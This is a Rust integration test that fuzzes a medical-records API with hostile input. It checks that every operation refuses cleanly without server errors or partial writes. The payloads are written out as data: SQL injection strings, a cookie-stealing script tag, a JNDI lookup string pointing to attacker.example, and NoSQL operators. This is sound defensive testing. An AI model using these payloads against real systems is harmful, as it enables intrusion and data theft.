//! Hostile input against every operation of the API's own OpenAPI document, as
//! every kind of caller: oversized, deeply nested, non-UTF-8 and non-JSON bodies;
//! wrong types, unknown enum values, negative, huge and fractional numbers,
//! injection and script strings in every field of valid commands; hostile query
//! values. Never a 5xx; every refusal is problem+json and leaves the log as it
//! was; text accepted as data reads back verbatim.

#![allow(clippy::unwrap_used)]

mod support;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use emr_domain::actor::Role;
use serde_json::{Value, json};
use support::*;

/// Values put in place of every leaf of a valid command.
fn hostile_values() -> Vec<Value> {
    vec![
        json!("1'; DROP TABLE commits; --"),
        json!("\" OR 1=1; SELECT * FROM mysql.user; --"),
        json!("<script>alert(document.cookie)</script>"),
        json!("${jndi:ldap://attacker.example/a}"),
        json!("\u{0000}\u{202e}\u{feff}"),
        json!("x".repeat(100_000)),
        json!("astrology"),
        json!(""),
        json!(-1),
        json!(-9_223_372_036_854_775_808i64),
        json!(18_446_744_073_709_551_615u64),
        json!(1e308),
        json!(0.5),
        json!(true),
        Value::Null,
        json!([]),
        json!({"$gt": ""}),
    ]
}

/// Bodies sent to every operation, whatever it expects.
fn hostile_bodies() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("oversized", format!("{{\"reason\": \"{}\"}}", "a".repeat(3 << 20)).into_bytes()),
        ("deeply nested", std::iter::repeat_n(b'[', 100_000).chain(std::iter::repeat_n(b']', 100_000)).collect()),
        ("deeply nested object", "{\"a\":".repeat(50_000).into_bytes()),
        ("invalid UTF-8", b"{\"reason\": \"\xff\xfe\xfd\"}".to_vec()),
        ("not JSON", b"reason=1&drop=table".to_vec()),
        ("empty", Vec::new()),
        ("empty object", b"{}".to_vec()),
        ("array", b"[1, 2, 3]".to_vec()),
        ("unknown field", b"{\"is_admin\": true}".to_vec()),
        ("huge number", b"{\"limit\": 1e999999}".to_vec()),
        ("duplicate keys", b"{\"reason\": \"a\", \"reason\": \"b\"}".to_vec()),
    ]
}

/// Values tried in every query parameter.
const HOSTILE_QUERY_VALUES: [&str; 8] =
    ["-1", "18446744073709551616", "1e9", "abc", "%00", "'%20OR%201=1--", "%3Cscript%3E", "99999999999999999999999"];

struct Scene {
    app: TestApp,
    admin: User,
    doctor: User,
    patient: User,
    record: String,
    grant: String,
    /// The account the account operations act on (deactivation included).
    target: String,
}

async fn scene() -> Scene {
    let app = app_with_everything().await;
    let admin = sign_in(&app, Role::Admin).await;
    let doctor = sign_in(&app, Role::Physician).await;
    let patient = sign_in(&app, Role::Patient).await;
    let mut registration = patient_body();
    registration["patient_id"] = json!(patient.id);
    let (status, _, receipt) = send(&app, command(&doctor, "POST", "/v1/patients", &registration)).await;
    assert_eq!(status, StatusCode::CREATED, "{receipt}");
    let (status, _, grant) = send(&app, command(&patient, "POST", "/v1/grants", &grant_body(&patient.id, &doctor.id, in_days(1)))).await;
    assert_eq!(status, StatusCode::CREATED, "{grant}");
    let (status, _, record) = send(&app, command(&doctor, "POST", "/v1/records", &record_body(&patient.id, &doctor))).await;
    assert_eq!(status, StatusCode::CREATED, "{record}");
    let (record, grant) = (record["aggregate_id"].as_str().unwrap().to_owned(), grant["aggregate_id"].as_str().unwrap().to_owned());
    let (target, _) = open_account(&app, Role::Nurse).await;
    Scene { app, admin, doctor, patient, record, grant, target }
}

impl Scene {
    /// A path template with real ids in it.
    fn path(&self, template: &str) -> String {
        template
            .replace("{record_id}", &self.record)
            .replace("{patient_id}", &self.patient.id)
            .replace("{grant_id}", &self.grant)
            .replace("{user_id}", &self.target)
            .replace("{attachment_id}", &uuid::Uuid::new_v4().to_string())
            .replace("{aggregate_type}", "patient")
            .replace("{aggregate_id}", &self.patient.id)
            .replace("{sequence}", "1")
    }

    async fn head(&self) -> u64 {
        self.app.log.head().await.unwrap()
    }

    /// Sends one request; checks the rules every answer to hostile input obeys.
    /// Returns the status.
    async fn probe(&self, what: &str, request: Request<Body>) -> StatusCode {
        let before = self.head().await;
        let (status, content_type, body) = send(&self.app, request).await;
        assert!(!status.is_server_error(), "{what}: {status} {body}");
        if status.is_client_error() {
            assert_eq!(content_type.as_deref(), Some("application/problem+json"), "{what}: {status} is not problem+json");
            assert_eq!(body["status"], status.as_u16(), "{what}: {body}");
            assert_eq!(self.head().await, before, "{what}: refused with {status} but the log moved");
        }
        status
    }
}

fn raw(user: Option<&User>, method: &str, uri: &str, content_type: &str, body: Vec<u8>) -> Request<Body> {
    let request = Request::builder().method(method).uri(uri).header(header::CONTENT_TYPE, content_type).body(Body::from(body)).unwrap();
    match user {
        Some(user) => as_user(user, request),
        None => request,
    }
}

/// Every leaf of `value` (a JSON pointer to it).
fn leaves(value: &Value, at: String, into: &mut Vec<String>) {
    match value {
        Value::Object(fields) => fields.iter().for_each(|(k, v)| leaves(v, format!("{at}/{k}"), into)),
        Value::Array(items) => items.iter().enumerate().for_each(|(i, v)| leaves(v, format!("{at}/{i}"), into)),
        _ => into.push(at),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_hostile_input_to_any_operation_gets_a_5xx_or_leaves_partial_state() {
    let scene = scene().await;
    let (_, _, document) = send(&scene.app, Request::get("/openapi.json").body(Body::empty()).unwrap()).await;
    let callers = [Some(&scene.admin), Some(&scene.doctor), Some(&scene.patient), None];
    let mut tried = 0usize;
    let mut operations = 0usize;
    for (template, methods) in document["paths"].as_object().unwrap() {
        for (method, operation) in methods.as_object().unwrap() {
            operations += 1;
            let uri = scene.path(template);
            let method = method.to_uppercase();
            if method == "POST" || method == "PUT" {
                for (name, body) in hostile_bodies() {
                    for caller in callers {
                        let what = format!("{method} {template} ({name})");
                        let status = scene.probe(&what, raw(caller, &method, &uri, "application/json", body.clone())).await;
                        let takes_a_body = operation.get("requestBody").is_some();
                        assert!(!takes_a_body || !status.is_success(), "{what} accepted");
                        tried += 1;
                    }
                }
            }
            let parameters = operation["parameters"].as_array().cloned().unwrap_or_default();
            for parameter in parameters.iter().filter(|p| p["in"] == "query") {
                for value in HOSTILE_QUERY_VALUES {
                    for caller in callers {
                        let uri = format!("{uri}?{}={value}", parameter["name"].as_str().unwrap());
                        let request = Request::builder().method(method.as_str()).uri(&uri).body(Body::empty()).unwrap();
                        let request = match caller {
                            Some(user) => as_user(user, request),
                            None => request,
                        };
                        scene.probe(&format!("{method} {uri}"), request).await;
                        tried += 1;
                    }
                }
            }
        }
    }
    assert!(operations >= 30, "the sweep found the documented operations: {operations}");
    emr_tests::report::record(
        "hostile-operations",
        json!({"operations": operations, "requests": tried, "server_errors": 0, "partial_writes": 0}),
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_values_in_every_field_of_valid_commands_are_refused_cleanly_or_stored_verbatim() {
    let scene = scene().await;
    let demographics = patient_body()["demographics"].clone();
    let amendment = json!({"content": record_body(&scene.patient.id, &scene.doctor)["content"], "reason": "correction"});
    let registration = json!({"username": "hostile_nurse", "password": PASSWORD, "role": "nurse",
        "profile": {"full_name": "Sun Lei", "licence_number": "LIC-7788", "department": "Respiratory", "specialization": "Asthma"}});
    let request = json!({"patient_id": scene.patient.id, "scopes": ["read"], "requested_until": in_days(2), "reason": "follow-up"});
    let commands: Vec<(&User, &str, String, Value)> = vec![
        (&scene.doctor, "POST", "/v1/patients".into(), patient_body()),
        (&scene.doctor, "POST", "/v1/records".into(), record_body(&scene.patient.id, &scene.doctor)),
        (&scene.doctor, "POST", format!("/v1/records/{}/amendments", scene.record), amendment),
        (&scene.doctor, "PUT", format!("/v1/patients/{}/demographics", scene.patient.id), demographics),
        (&scene.doctor, "POST", "/v1/access-requests".into(), request),
        (&scene.patient, "POST", "/v1/grants".into(), grant_body(&scene.patient.id, &scene.doctor.id, in_days(1))),
        (&scene.admin, "POST", "/v1/accounts".into(), registration),
        (&scene.doctor, "POST", format!("/v1/records/{}/break-glass", scene.record), json!({"reason": "unresponsive"})),
    ];
    let (mut tried, mut refused, mut stored) = (0usize, 0usize, 0usize);
    for (user, method, path, valid) in &commands {
        let mut pointers = Vec::new();
        leaves(valid, String::new(), &mut pointers);
        for pointer in &pointers {
            for value in hostile_values() {
                let mut body = valid.clone();
                *body.pointer_mut(pointer).unwrap() = value.clone();
                let what = format!("{method} {path} with {pointer} = {}", value.to_string().chars().take(40).collect::<String>());
                let request = command(user, method, path, &body);
                let status = scene.probe(&what, request).await;
                tried += 1;
                if status.is_success() {
                    stored += 1;
                } else {
                    refused += 1;
                }
            }
        }
    }
    // Text that is valid clinical content is data, never code: it reads back as sent.
    let mut injected = record_body(&scene.patient.id, &scene.doctor);
    injected["content"]["title"] = json!("1'; DROP TABLE commits; -- <script>alert(1)</script>");
    let (status, _, receipt) = send(&scene.app, command(&scene.doctor, "POST", "/v1/records", &injected)).await;
    assert_eq!(status, StatusCode::CREATED, "{receipt}");
    let (_, _, shown) = send(&scene.app, get(&scene.doctor, &format!("/v1/records/{}", receipt["aggregate_id"].as_str().unwrap()))).await;
    assert_eq!(shown["versions"][0]["content"]["title"], injected["content"]["title"]);
    assert!(refused > stored, "most hostile values are refused: {refused} refused, {stored} stored");
    emr_tests::report::record(
        "hostile-fields",
        json!({"commands": commands.len(), "requests": tried, "refused_4xx": refused, "accepted_as_data": stored, "server_errors": 0}),
    );
}
